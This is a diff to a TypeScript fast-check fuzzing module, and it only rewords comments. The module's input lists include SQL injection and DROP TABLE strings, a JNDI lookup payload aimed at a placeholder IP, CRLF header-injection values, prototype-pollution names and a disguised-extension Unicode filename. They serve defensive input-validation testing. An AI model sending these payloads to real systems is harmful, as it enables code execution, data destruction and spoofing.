@@ -1,8 +1,8 @@
 import fc from 'fast-check'
 
 /**
- * Texts that have broken other services, by the weakness they look for. The classes are those of the OWASP Web
- * Security Testing Guide v4.2, chapter 4.7 (input validation), and of CWE-20, -74, -117, -1321 and -1333.
+ * Texts that broke other services, by weakness. The classes are those of the OWASP Web Security Testing Guide v4.2,
+ * chapter 4.7 (input validation), and of CWE-20, -74, -117, -1321 and -1333.
  */
 const texts: readonly string[] = [
   // Emptiness and space
@@ -12,7 +12,7 @@ const texts: readonly string[] = [
   '\r\n',
   '\u00a0',
   '\u200b',
-  // Numbers that are none, or are too much of one
+  // Invalid and huge numbers
   'NaN',
   'Infinity',
   '-Infinity',
@@ -23,20 +23,20 @@ const texts: readonly string[] = [
   '１２',
   '−1',
   '9'.repeat(400),
-  // Dates at and beyond the edge of what a clock can hold
+  // Dates at and beyond the range of clocks
   '0000-00-00',
   '-000001-01-01T00:00:00Z',
   '+275760-09-13T00:00:00.001Z',
   '2026-02-30T00:00:00Z',
   '2026-01-01T24:00:01Z',
   '2026-01-01T00:00:00+99:99',
-  // Names that objects have without being asked
+  // Names of inherited properties
   '__proto__',
   'constructor',
   'prototype',
   'toString',
   'hasOwnProperty',
-  // Other languages' syntax
+  // Syntax of other languages
   "' OR 1=1 --",
   '"; DROP TABLE ledger_entry; --',
   '$' + '{jndi:ldap://192.0.2.1/a}',
@@ -48,13 +48,13 @@ const texts: readonly string[] = [
   '%00',
   'a\r\nSet-Cookie: x=1',
   '%0d%0aSet-Cookie:x=1',
-  // Unicode that hides, reverses, or is half of something
+  // Unicode: invisible, reversing, and unpaired
   '\u202egnp.exe',
   '\ud800',
   '\ufeff',
   'e\u0301'.repeat(200),
   '🜂'.repeat(100),
-  // Length, and patterns that make a careless expression backtrack
+  // Long texts, and patterns that make a careless regular expression backtrack
   'a'.repeat(65),
   'a'.repeat(3_000),
   `${'a,'.repeat(400)}!`,
@@ -73,7 +73,7 @@ const hostileNumber = fc.oneof(
   fc.constantFrom(0, -0, 1e-320, Number.MAX_VALUE, -Number.MAX_VALUE, 2 ** 31, 2 ** 53, -(2 ** 53) - 1),
 )
 
-/** Any JSON value, and more often than chance would have it one that is known to hurt. */
+/** Any JSON value, with known harmful ones more often. */
 export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 6, arbitrary: hostileText },
   { weight: 3, arbitrary: hostileNumber },
@@ -83,7 +83,7 @@ export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 1, arbitrary: fc.dictionary(hostileText, fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }) },
 )
 
-/** Parameter names that no tool has, some of which mean something to JavaScript. */
+/** Unknown parameter names, some with a meaning in JavaScript. */
 export const hostileName: fc.Arbitrary<string> = fc.oneof(
   fc.constantFrom('__proto__', 'constructor', 'toString', 'lattitude', 'Latitude', 'latitude ', 'api_key'),
   hostileText,
